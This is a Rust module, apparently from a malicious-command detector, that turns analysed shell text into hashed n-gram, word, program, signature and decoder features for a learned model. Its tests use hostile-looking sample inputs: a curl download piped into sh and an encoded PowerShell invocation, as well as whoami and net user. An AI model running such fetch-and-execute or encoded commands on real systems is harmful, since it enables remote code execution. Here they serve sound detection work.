//! Hashed features of an analysed text, for the learned model: character n-grams of the
//! decoded text (lower case, whitespace collapsed, line breaks kept as statement breaks, the
//! program starting each line by its bare name), word unigrams and bigrams, the programs
//! run, the signatures and dual-use capabilities found, and the decoders that were needed.
//! Each feature is a bucket of a 2^bits table; the text of each is recovered only when an
//! explanation asks for it.

use std::cell::RefCell;

use crate::Analysed;

/// Bytes of the decoded text that feed the n-grams (a long script's head carries its intent).
pub const MAX_FEATURE_BYTES: usize = 16 * 1024;
/// Which features a model uses (saved with it, so scoring extracts what training did).
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct FeatureSet {
    /// Table size: 2^bits buckets.
    pub bits: u32,
    /// Character n-gram lengths, shortest and longest.
    pub min_n: u8,
    pub max_n: u8,
    /// Word unigrams and bigrams.
    pub words: bool,
    /// Programs run, signatures, dual-use capabilities and decoders.
    pub analysis: bool,
    /// A whitespace run holding a line break becomes one `\n` instead of a space: a line
    /// break ends a statement, so `…\nnet user` starts a command where `… net user` passes
    /// an argument. Models saved before this setting existed collapse it (`false`).
    pub lines: bool,
    /// The program that starts each line is read as its bare name, without directory or
    /// `.exe` ([`crate::launch`]): process-creation telemetry writes every image in full,
    /// command corpora seldom do. Models saved before this setting existed read the text
    /// as written (`false`).
    pub launch: bool,
}

impl Default for FeatureSet {
    fn default() -> Self {
        FeatureSet {
            bits: crate::model::DEFAULT_BITS,
            min_n: 1,
            max_n: 5,
            words: true,
            analysis: true,
            lines: true,
            launch: true,
        }
    }
}

impl FeatureSet {
    pub fn validate(&self) -> Result<(), String> {
        if !(8..=24).contains(&self.bits)
            || self.min_n == 0
            || self.min_n > self.max_n
            || self.max_n > 8
        {
            return Err(format!(
                "feature set: bits 8–24 and 1 ≤ min_n ≤ max_n ≤ 8 (got {self:?})"
            ));
        }
        Ok(())
    }
}

/// Feature kinds, hashed into separate regions of the same table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Chars,
    Word,
    Bigram,
    Program,
    Signature,
    Decoder,
}

impl Kind {
    fn seed(self) -> u64 {
        match self {
            Kind::Chars => 0x9e37_79b9_7f4a_7c15,
            Kind::Word => 0xc2b2_ae3d_27d4_eb4f,
            Kind::Bigram => 0x1656_67b1_9e37_79f9,
            Kind::Program => 0x27d4_eb2f_1656_67c5,
            Kind::Signature => 0x94d0_49bb_1331_11eb,
            Kind::Decoder => 0xbf58_476d_1ce4_e5b9,
        }
    }

    /// Signatures and decoders only ever add suspicion (their weights are kept ≥ 0).
    pub fn one_sided(self) -> bool {
        matches!(self, Kind::Signature | Kind::Decoder)
    }
}

/// One feature of one text: its bucket and enough to name it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Feature {
    pub index: u32,
    pub kind: Kind,
    pub label: Label,
}

/// Where a feature's text is: a span of the normalised text, or a name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Label {
    Span(u32, u32),
    Name(String),
}

/// The features of one analysed text, de-duplicated by bucket, and the normalised text their
/// spans point into.
#[derive(Debug, Clone, Default)]
pub struct Features {
    pub items: Vec<Feature>,
    pub normalised: String,
}

impl Features {
    /// A feature's readable text.
    pub fn describe(&self, f: &Feature) -> String {
        let kind = match f.kind {
            Kind::Chars => "chars",
            Kind::Word => "word",
            Kind::Bigram => "words",
            Kind::Program => "program",
            Kind::Signature => "signature",
            Kind::Decoder => "decoded by",
        };
        let text = match &f.label {
            Label::Span(s, e) => self.normalised.get(*s as usize..*e as usize).unwrap_or(""),
            Label::Name(n) => n.as_str(),
        };
        // Built directly: this runs for every explained feature of every text scored.
        let mut out = String::with_capacity(kind.len() + text.len() + 3);
        out.push_str(kind);
        out.push_str(" `");
        // A statement break is shown as `\n`, so an explanation stays on one line.
        if text.contains('\n') {
            out.push_str(&text.replace('\n', "\\n"));
        } else {
            out.push_str(text);
        }
        out.push('`');
        out
    }
}

/// FNV-1a, seeded per kind: stable across builds and platforms (model files depend on it).
fn hash(seed: u64, bytes: &[u8]) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64 ^ seed;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h ^ (h >> 29)
}

/// Lower case, whitespace runs collapsed to one space — or, with `lines`, to one `\n` where
/// the run holds a line break — between a leading and a trailing space, at most
/// [`MAX_FEATURE_BYTES`].
pub fn normalise(text: &str, lines: bool) -> String {
    let mut out = String::with_capacity(text.len().min(MAX_FEATURE_BYTES) + 2);
    out.push(' ');
    // The separator the current whitespace run collapses to, once it ends.
    let mut pending: Option<char> = None;
    for c in text.chars() {
        if out.len() >= MAX_FEATURE_BYTES {
            break;
        }
        if c.is_whitespace() {
            let breaks = lines && matches!(c, '\n' | '\r');
            if breaks || pending.is_none() {
                pending = Some(if breaks { '\n' } else { ' ' });
            }
        } else {
            // Leading whitespace adds nothing to the leading space.
            if let Some(sep) = pending.take()
                && out.len() > 1
            {
                out.push(sep);
            }
            out.extend(c.to_lowercase());
        }
    }
    if out.len() > 1 {
        out.push(' ');
    }
    out
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'$' | b':' | b'\\' | b'/')
}

thread_local! {
    /// Which buckets the text being extracted already has: one bit per bucket, cleared
    /// again (word by word, through the features kept) before `extract` returns. Cheaper
    /// than sorting a text's features to remove repeats, which was a fifth of scoring.
    static SEEN: RefCell<Vec<u64>> = const { RefCell::new(Vec::new()) };

    /// Feature lists of texts already scored, emptied, for the next texts to fill: a text's
    /// list runs to kilobytes, an allocation that was a good part of the time the
    /// allocator took per text.
    static SPARE: RefCell<Vec<Vec<Feature>>> = const { RefCell::new(Vec::new()) };
}

/// Most emptied lists kept per thread, and the largest kept (in features).
const SPARE_LISTS: usize = 4;
const SPARE_CAPACITY: usize = 1 << 15;

impl Drop for Features {
    fn drop(&mut self) {
        let mut items = std::mem::take(&mut self.items);
        if items.capacity() == 0 || items.capacity() > SPARE_CAPACITY {
            return;
        }
        items.clear();
        // During a thread's teardown the spare lists may be gone: the list is then freed.
        let _ = SPARE.try_with(|spare| {
            if let Ok(mut spare) = spare.try_borrow_mut()
                && spare.len() < SPARE_LISTS
            {
                spare.push(items);
            }
        });
    }
}

/// An empty list with room for `wanted` features, reused when a thread has one.
fn feature_list(wanted: usize) -> Vec<Feature> {
    let mut items = SPARE
        .try_with(|spare| spare.try_borrow_mut().ok().and_then(|mut s| s.pop()))
        .ok()
        .flatten()
        .unwrap_or_default();
    items.reserve(wanted);
    items
}

/// A text's features as they are found, each bucket kept once: the first feature to reach
/// a bucket names it.
struct Collector<'s> {
    items: Vec<Feature>,
    seen: &'s mut [u64],
    mask: u64,
}

impl Collector<'_> {
    fn push(&mut self, kind: Kind, h: u64, label: Label) {
        let index = (h & self.mask) as u32;
        let (word, bit) = ((index >> 6) as usize, 1u64 << (index & 63));
        if let Some(w) = self.seen.get_mut(word)
            && *w & bit == 0
        {
            *w |= bit;
            self.items.push(Feature { index, kind, label });
        }
    }

    fn finish(self) -> Vec<Feature> {
        for f in &self.items {
            if let Some(w) = self.seen.get_mut((f.index >> 6) as usize) {
                *w = 0;
            }
        }
        self.items
    }
}

/// The features of an analysis, each bucket once, in the order found: the analysis's
/// features first (so a bucket they share with an n-gram keeps the one-sided, named
/// feature), then character n-grams, words and word pairs.
pub fn extract(a: &Analysed, set: &FeatureSet) -> Features {
    let text = a.decoded.last();
    let normalised = if set.launch {
        normalise(&crate::launch::launch_names(text), set.lines)
    } else {
        normalise(text, set.lines)
    };
    let words = 1usize << set.bits.saturating_sub(6);
    let items = SEEN.with_borrow_mut(|seen| {
        if seen.len() < words {
            seen.resize(words, 0);
        }
        let mut c = Collector {
            items: feature_list(normalised.len() * 3 + 32),
            seen: &mut seen[..words],
            mask: (1u64 << set.bits) - 1,
        };
        if set.analysis {
            analysis_features(&mut c, a);
        }
        char_ngrams(&mut c, normalised.as_bytes(), set);
        if set.words {
            word_features(&mut c, normalised.as_bytes());
        }
        c.finish()
    });
    Features { items, normalised }
}

/// At most this many of each kind of analysis feature (programs, signatures, decoders).
const MAX_ANALYSIS_FEATURES: usize = 64;

fn analysis_features(c: &mut Collector, a: &Analysed) {
    for exe in a.tokens.executables().take(MAX_ANALYSIS_FEATURES) {
        c.push(
            Kind::Program,
            hash(Kind::Program.seed(), exe.as_bytes()),
            Label::Name(exe.to_string()),
        );
    }
    for h in a.signatures.iter().take(MAX_ANALYSIS_FEATURES) {
        c.push(
            Kind::Signature,
            hash(Kind::Signature.seed(), h.id.as_bytes()),
            Label::Name(h.id.to_string()),
        );
    }
    for d in a.dual_use.iter().take(MAX_ANALYSIS_FEATURES) {
        let name = format!("{}:{:?}", d.program, d.capability);
        c.push(
            Kind::Signature,
            hash(Kind::Signature.seed(), name.as_bytes()),
            Label::Name(name),
        );
    }
    for l in a.decoded.layers.iter().skip(1).take(MAX_ANALYSIS_FEATURES) {
        c.push(
            Kind::Decoder,
            hash(Kind::Decoder.seed(), l.decoder.as_bytes()),
            Label::Name(l.decoder.to_string()),
        );
    }
}

/// FNV-1a is computed prefix by prefix: from each start, the n-grams of every size come
/// from one pass over the longest (the values are those of `hash` on each n-gram).
fn char_ngrams(c: &mut Collector, bytes: &[u8], set: &FeatureSet) {
    let (min_n, max_n) = (usize::from(set.min_n), usize::from(set.max_n));
    for s in 0..bytes.len() {
        let mut h = 0xcbf2_9ce4_8422_2325u64 ^ Kind::Chars.seed();
        for (k, &b) in bytes[s..].iter().take(max_n).enumerate() {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
            let n = k + 1;
            if n >= min_n {
                c.push(
                    Kind::Chars,
                    h ^ (h >> 29),
                    Label::Span(s as u32, (s + n) as u32),
                );
            }
        }
    }
}

fn word_features(c: &mut Collector, bytes: &[u8]) {
    let mut prev: Option<usize> = None;
    let mut i = 0;
    while i < bytes.len() {
        if !is_word_byte(bytes[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && is_word_byte(bytes[i]) {
            i += 1;
        }
        c.push(
            Kind::Word,
            hash(Kind::Word.seed(), &bytes[start..i]),
            Label::Span(start as u32, i as u32),
        );
        if let Some(ps) = prev {
            c.push(
                Kind::Bigram,
                hash(Kind::Bigram.seed(), &bytes[ps..i]),
                Label::Span(ps as u32, i as u32),
            );
        }
        prev = Some(start);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn normalising_collapses_space_and_case() {
        assert_eq!(
            normalise("  Get-Process\t\n -Id  4 ", false),
            " get-process -id 4 "
        );
        assert_eq!(normalise("", false), " ");
        assert!(
            normalise(&"a".repeat(MAX_FEATURE_BYTES * 2), false).len() <= MAX_FEATURE_BYTES + 1
        );
    }

    #[test]
    fn normalising_keeps_a_line_break_as_one_statement_break() {
        assert_eq!(
            normalise("\n whoami \r\n\n  net  user\t\n", true),
            " whoami\nnet user "
        );
        assert_eq!(normalise("whoami;  net user", true), " whoami; net user ");
        assert_eq!(normalise("a\tb\nc", false), " a b c ");
    }

    #[test]
    fn char_ngrams_hash_as_each_ngram_alone() {
        let a = crate::Analyzer::new(None, crate::VerdictConfig::default())
            .examine("curl -s http://x/y | sh", Some(crate::Shell::Sh));
        let set = FeatureSet {
            words: false,
            analysis: false,
            ..FeatureSet::default()
        };
        let f = extract(&a, &set);
        let bytes = f.normalised.as_bytes();
        let mask = (1u64 << set.bits) - 1;
        let mut expected: Vec<u32> = Vec::new();
        for n in usize::from(set.min_n)..=usize::from(set.max_n) {
            for w in bytes.windows(n) {
                expected.push((hash(Kind::Chars.seed(), w) & mask) as u32);
            }
        }
        expected.sort_unstable();
        expected.dedup();
        let mut got: Vec<u32> = f.items.iter().map(|i| i.index).collect();
        got.sort_unstable();
        assert_eq!(got, expected, "each bucket once");
    }

    #[test]
    fn the_seen_buckets_are_cleared_between_texts() {
        let an = crate::Analyzer::new(None, crate::VerdictConfig::default());
        let a = an.examine("powershell -enc SQBFAFgA", None);
        let b = an.examine("curl -s http://x/y | sh", Some(crate::Shell::Sh));
        let set = FeatureSet::default();
        let first = extract(&a, &set).items.clone();
        let other = extract(&b, &set).items.clone();
        assert_eq!(extract(&a, &set).items, first, "same text, same features");
        assert_eq!(extract(&b, &set).items, other);
        let mut buckets: Vec<u32> = first.iter().map(|f| f.index).collect();
        buckets.sort_unstable();
        buckets.dedup();
        assert_eq!(buckets.len(), first.len(), "each bucket once");
    }

    #[test]
    fn a_dropped_list_is_filled_again_by_the_next_text() {
        let an = crate::Analyzer::new(None, crate::VerdictConfig::default());
        let a = an.examine("curl -s http://x/y | sh", Some(crate::Shell::Sh));
        let b = an.examine("powershell -enc SQBFAFgA", None);
        let set = FeatureSet::default();
        let first = extract(&a, &set);
        let (kept, at) = (first.items.clone(), first.items.as_ptr());
        drop(first);
        let next = extract(&b, &set);
        assert_eq!(next.items.as_ptr(), at, "the same allocation");
        assert!(next.items.iter().all(|f| f.index < 1 << set.bits));
        drop(next);
        assert_eq!(
            extract(&a, &set).items,
            kept,
            "nothing of the last text is left"
        );
    }

    #[test]
    fn analysis_features_come_first_and_name_their_bucket() {
        let an = crate::Analyzer::new(None, crate::VerdictConfig::default());
        let a = an.examine("curl -s http://x/y | sh", Some(crate::Shell::Sh));
        let f = extract(&a, &FeatureSet::default());
        let first_chars = f.items.iter().position(|i| i.kind == Kind::Chars);
        let last_named = f
            .items
            .iter()
            .rposition(|i| matches!(i.label, Label::Name(_)));
        assert!(last_named.is_some() && first_chars.is_some());
        assert!(last_named < first_chars);
    }

    #[test]
    fn hashing_is_stable() {
        // Model files depend on these values never changing.
        assert_eq!(hash(0, b"abc"), hash(0, b"abc"));
        assert_ne!(
            hash(Kind::Chars.seed(), b"abc"),
            hash(Kind::Word.seed(), b"abc")
        );
        assert_eq!(
            hash(0, b""),
            0xcbf2_9ce4_8422_2325 ^ (0xcbf2_9ce4_8422_2325 >> 29)
        );
    }
}
